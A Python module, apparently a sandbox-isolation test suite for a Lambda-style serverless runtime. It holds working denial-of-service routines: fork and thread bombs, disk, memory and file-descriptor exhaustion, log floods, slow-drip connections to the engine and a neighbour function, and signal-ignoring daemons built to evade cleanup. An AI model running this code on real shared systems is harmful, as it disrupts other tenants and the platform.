"""Ways to take more than one's share. Each is a function's only way, as it may end the environment."""

import ctypes
import mmap
import os
import resource
import signal
import socket
import threading
import time

from trying import way
from ways_api import own_credentials, sign

MIB = 1 << 20
PROCESSES = 2000  # tried; 1,024 are allowed
ACHIEVED = 1100  # that are still there a second later: without a sandbox a watch counts them, now and then


@way("fork bomb")
def _(targets):
    """By a program that is nothing but a fork: two thousand interpreters would be a test of memory."""
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(writer, 1)
        os.execv(os.environ["LAMBDA_TASK_ROOT"] + "/forks", ["forks", str(PROCESSES)])
    os.close(writer)
    made = int(os.read(reader, 100) or b"0")
    if made > ACHIEVED:
        time.sleep(1)
    os.kill(pid, signal.SIGKILL)
    return f"{made} processes" if made > ACHIEVED else ""


@way("thread bomb")
def _(targets):
    threading.stack_size(64 << 10)
    stop, made = threading.Event(), 0
    try:
        for _ in range(PROCESSES):
            threading.Thread(target=stop.wait, daemon=True).start()
            made += 1
    except RuntimeError:
        pass
    if made > ACHIEVED:
        time.sleep(1)
    stop.set()
    return f"{made} threads" if made > ACHIEVED else ""


def allocate(path: str, mib: int) -> int:
    """MiB that the file got."""
    got = 0
    file = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)
    try:
        while got < mib:
            os.posix_fallocate(file, got * MIB, 16 * MIB)
            got += 16
    except OSError:
        pass
    os.unlink(path)
    return got


@way("fill /tmp beyond its size")
def _(targets):
    got = allocate("/tmp/fill", targets["tmp_mib"] + 128)
    return f"{got} MiB" if got > targets["tmp_mib"] else ""


@way("fill other folders in memory")
def _(targets):
    """Of a function of 128 MB with 512 MB of /tmp."""
    got = []
    for folder in ("/dev/shm", "/dev", "/", "/run", "/var/tmp", "/var"):
        try:
            if (mib := allocate(f"{folder}/fill", 768)) > 640:
                got.append(f"{mib} MiB in {folder}")
        except OSError:
            pass
    return got


@way("hold memory beyond its limit")
def _(targets):
    blocks = []
    for _ in range(48):
        block = bytearray(16 * MIB)
        block[::4096] = b"x" * (len(block) // 4096)
        blocks.append(block)
    time.sleep(1)
    return f"{16 * len(blocks)} MiB"


@way("hold memory beyond its limit, in several processes")
def _(targets):
    reader, writer = os.pipe()
    for _ in range(8):
        if os.fork() == 0:
            block = bytearray(96 * MIB)
            block[::4096] = b"x" * (len(block) // 4096)
            time.sleep(1)
            os.write(writer, b"x")
            os._exit(0)
    os.close(writer)
    held = 0
    while os.read(reader, 1):
        held += 1
    return f"{held * 96} MiB" if held == 8 else ""


@way("hold memory beyond its limit that is mapped nowhere")
def _(targets):
    file = os.memfd_create("held")
    got = 0
    while got < 768:
        os.posix_fallocate(file, got * MIB, 16 * MIB)
        got += 16
    time.sleep(1)
    return f"{got} MiB"


@way("hold memory beyond its limit that is shared")
def _(targets):
    blocks = []
    for _ in range(48):
        block = mmap.mmap(-1, 16 * MIB)  # shared, of no file
        for at in range(0, len(block), 4096):
            block[at] = 1
        blocks.append(block)
    time.sleep(1)
    return f"{16 * len(blocks)} MiB"


@way("open 100,000 files")
def _(targets):
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (100_100, max(100_100, resource.getrlimit(resource.RLIMIT_NOFILE)[1])))
    except (OSError, ValueError):
        pass
    opened = 0
    try:
        while opened < 100_000:
            os.open("/dev/null", os.O_RDONLY)
            opened += 1
    except OSError:
        pass
    return f"{opened} files" if opened == 100_000 else ""


def flood(line: bytes, mib: int) -> None:
    block = memoryview(line * (MIB // len(line)))
    for _ in range(mib):
        rest = block
        while rest:
            rest = rest[os.write(1, rest):]


# Whether these two achieve anything, the test sees from outside: memory and disk of the engine.

@way("flood the log")
def _(targets):
    flood(b"x" * 127 + b"\n", 96)
    return ""


@way("flood the log with one line")
def _(targets):
    flood(b"x" * 128, 96)
    return ""


@way("answer without end")
def _(targets):
    """To the Runtime API of its own: a response of a GiB, announced and begun."""
    host, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition("/")[0].rsplit(":", 1)
    prefix = os.environ["AWS_LAMBDA_RUNTIME_API"].partition("/")[1:]
    path = "".join(prefix) + f"/2018-06-01/runtime/invocation/{targets['own_request']}/response"
    sent = 0
    for framing in (b"Content-Length: 1073741824\r\n\r\n", b"Transfer-Encoding: chunked\r\n\r\n40000000\r\n"):
        with socket.create_connection((host, int(port)), timeout=1) as connection:
            connection.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\n%s" % (path.encode(), framing))
            try:
                for _ in range(128):
                    connection.sendall(bytes(MIB))
                    sent += 1
            except OSError:
                pass
    return ""


@way("hold connections to the engine")
def _(targets):
    """To its API and to the Runtime API of its own, from processes of a thousand descriptors each. They are let go
    after three seconds; what they were held for, the test sees from outside."""
    places = [targets["api"], os.environ["AWS_LAMBDA_RUNTIME_API"].partition("/")[0]]
    pids = []
    for place in places:
        host, port = place.rsplit(":", 1)
        for _ in range(2):
            pids.append(os.fork())
            if pids[-1] == 0:
                held = []
                try:
                    for _ in range(900):
                        connection = socket.socket()
                        connection.setblocking(False)
                        connection.connect_ex((host, int(port)))
                        held.append(connection)
                    for connection in held:
                        try:
                            connection.send(b"GET /2018-06-01/")
                        except OSError:
                            pass
                except OSError:
                    pass
                time.sleep(2)
                os._exit(0)
    for pid in pids:
        os.waitpid(pid, 0)
    return ""


@way("hold connections to the engine by invocations that never end")
def _(targets):
    """What a function may ask for, in good order: heads that are let in, and bodies that drip."""
    host, port = targets["api"].rsplit(":", 1)
    path, body = f"/2015-03-31/functions/{targets['neighbour']}/invocations", b'"' + b"x" * 500_000 + b'"'
    signed = sign("POST", targets["api"], path, {}, body, "lambda", *own_credentials())
    head = "".join(f"{name}: {value}\r\n" for name, value in signed.items())
    head = f"POST {path} HTTP/1.1\r\n{head}Content-Length: {len(body)}\r\n\r\n".encode() + body[:100]
    pids = []
    for _ in range(3):
        pids.append(os.fork())
        if pids[-1] == 0:
            held = []
            try:
                for _ in range(900):
                    connection = socket.socket()
                    held.append(connection)
                    connection.settimeout(0.5)
                    connection.connect((host, int(port)))
                    connection.sendall(head)
            except OSError:
                pass
            for _ in range(4):
                time.sleep(0.5)
                for connection in held:
                    try:
                        connection.send(b"xxxxxxxxxx")
                    except OSError:
                        pass
            os._exit(0)
    for pid in pids:
        os.waitpid(pid, 0)
    return ""


def beat(address: str, word: str) -> None:
    """Says a word every 50 ms to who listens there, for as long as it may; half a minute at most."""
    host, port = address.rsplit(":", 1)
    until = time.monotonic() + 30
    while time.monotonic() < until:
        try:
            with socket.create_connection((host, int(port)), timeout=1) as connection:
                while time.monotonic() < until:
                    connection.sendall(word.encode() + b"\n")
                    time.sleep(0.05)
        except OSError:
            time.sleep(0.05)


def start_daemons(address: str) -> None:
    """One in each manner; all of them ignore every signal that can be ignored."""

    def ignore_all():
        for number in range(1, signal.NSIG):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass

    def close_all():
        os.closerange(0, 1024)

    def become_a_daemon(word: str, session: bool, group: bool, twice: bool) -> None:
        if os.fork():
            return
        if session:
            os.setsid()
        if group:
            os.setpgid(0, 0)
        if twice and os.fork():
            os._exit(0)
        ignore_all()
        if word == "renamed":
            ctypes.CDLL(None).prctl(15, b"wheelpit", 0, 0, 0)
        if word == "subreaper":
            ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
            if os.fork():
                time.sleep(30)
        if word == "prompt":
            ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG: lives on without its parent
        close_all()
        beat(address, word)
        os._exit(0)

    become_a_daemon("child", session=False, group=False, twice=False)
    become_a_daemon("group", session=False, group=True, twice=True)
    become_a_daemon("session", session=True, group=False, twice=True)
    for word in ("renamed", "subreaper", "prompt"):
        become_a_daemon(word, session=True, group=False, twice=True)


def start_chain(address: str) -> None:
    """Each process has a child and ends, so that who lists processes and then kills them comes too late."""
    if os.fork() == 0:
        os.setsid()
        until = time.monotonic() + 20
        host, port = address.rsplit(":", 1)
        words = socket.create_connection((host, int(port)), timeout=1)
        while time.monotonic() < until:
            if os.fork():
                os._exit(0)
            try:
                words.sendall(b"chain\n")
            except OSError:
                pass


def hang_with_daemons(targets: dict) -> None:
    start_daemons(targets["heartbeat"])
    start_chain(targets["heartbeat"])
    time.sleep(3600)
